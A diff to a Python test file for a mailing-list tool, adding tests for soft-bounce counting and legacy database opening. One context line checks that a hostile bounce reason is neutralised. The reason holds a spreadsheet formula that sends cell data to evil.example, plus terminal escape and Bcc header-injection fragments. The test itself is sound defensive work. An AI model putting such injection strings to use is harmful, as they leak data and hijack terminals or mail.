@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import sqlite3
 from pathlib import Path
@@ -12,9 +13,14 @@ from click.testing import CliRunner, Result
 
 from issuepdf.cli import main
 from issuepdf.content.errors import SubscriberError
+from issuepdf.content.settings import SubscriberSettings
+from issuepdf.mail import subscribers as subscribers_module
 from issuepdf.mail.subscribers import open_list
 
 from .support.projects import make_project
+
+RULES = SubscriberSettings()
+"""The defaults: bounced at the third temporary failure in a row, the count starting again after 30 quiet days."""
 
 LIST = """\
 이름,이메일
@@ -63,10 +69,10 @@ def test_statuses_stick_with_when_and_why_and_only_an_explicit_resubscribe_lifts
         subscribers.set_status("B@example.org", "bounced", "550 5.1.1 user unknown")
         subscribers.set_status("c@example.org", "complained", "feedback report")
         assert subscribers.set_status("b@example.org", "unsubscribed", "mail").status == "bounced"  # keeps the worse
-        for _ in range(2):
-            assert subscribers.soft_bounce("d@example.org", "452 mailbox full", limit=3).status == "active"
-        third = subscribers.soft_bounce("d@example.org", "452 mailbox full", limit=3)
-        assert (third.status, third.reason) == ("bounced", "3 temporary failures, last: 452 mailbox full")
+        for message in ("m1", "m2"):
+            assert subscribers.soft_bounce("d@example.org", "452 mailbox full", RULES, message).status == "active"
+        third = subscribers.soft_bounce("d@example.org", "452 mailbox full", RULES, "m3")
+        assert (third.status, third.reason) == ("bounced", "3 temporary failures in a row, last: 452 mailbox full")
         unknown = subscribers.set_status("new@example.org", "unsubscribed", "mail to the list")
         assert unknown.status == "unsubscribed"  # remembered, so that no import subscribes it
         later = subscribers.import_csv(source)
@@ -139,3 +145,35 @@ def test_a_hostile_bounce_reason_is_one_short_line_and_exports_as_text(tmp_path:
     assert row.reason.startswith('=HYPERLINK("https://evil.example/?"&A1,"click") [2J ]0;owned Bcc: x 아주')
     assert row.reason.isprintable() and len(row.reason) == 300 and row.reason.endswith("…")
     assert exported[1][3] == "'" + row.reason  # a spreadsheet shows it, never evaluates it
+
+
+def test_soft_bounces_count_once_per_message_and_only_in_a_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    start = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
+    today = [start]
+    monkeypatch.setattr(subscribers_module, "now", lambda: today[0].isoformat(timespec="seconds"))
+    with open_list(tmp_path / "list.sqlite") as subscribers:
+        subscribers.add("full@example.org", "test")
+        counts = []
+        # day 0: message a and the notice of its retry; b a week later; c after 43 quiet days; d and e weekly
+        for day, message in ((0, "a"), (0, "a"), (7, "b"), (50, "c"), (57, "d"), (64, "e")):
+            today[0] = start + dt.timedelta(days=day)
+            found = subscribers.soft_bounce("full@example.org", "452 mailbox full", RULES, message)
+            assert found is not None
+            counts.append((found.soft_bounces, found.status))
+    assert counts == [(1, "active"), (1, "active"), (2, "active"), (1, "active"), (2, "active"), (3, "bounced")]
+
+
+def test_a_list_made_before_soft_bounces_were_dated_opens_and_counts(tmp_path: Path) -> None:
+    path = tmp_path / "old.sqlite"
+    with sqlite3.connect(path) as db:  # the table as issuepdf made it before soft_last and soft_message
+        db.execute(
+            "CREATE TABLE subscribers (key TEXT PRIMARY KEY, address TEXT NOT NULL, status TEXT NOT NULL, changed TEXT"
+            " NOT NULL, reason TEXT NOT NULL, added TEXT NOT NULL, soft_bounces INTEGER NOT NULL DEFAULT 0)"
+        )
+        db.execute("INSERT INTO subscribers VALUES ('a@example.org', 'a@example.org', 'active', 't', 'r', 't', 2)")
+    db.close()
+    with open_list(path) as subscribers:
+        found = subscribers.soft_bounce("a@example.org", "452 mailbox full", RULES, "m")
+        assert found is not None and (found.soft_bounces, found.status) == (1, "active")  # no date: a fresh count
+        subscribers.add("b@example.org", "test")
+        assert subscribers.active() == ["a@example.org", "b@example.org"]
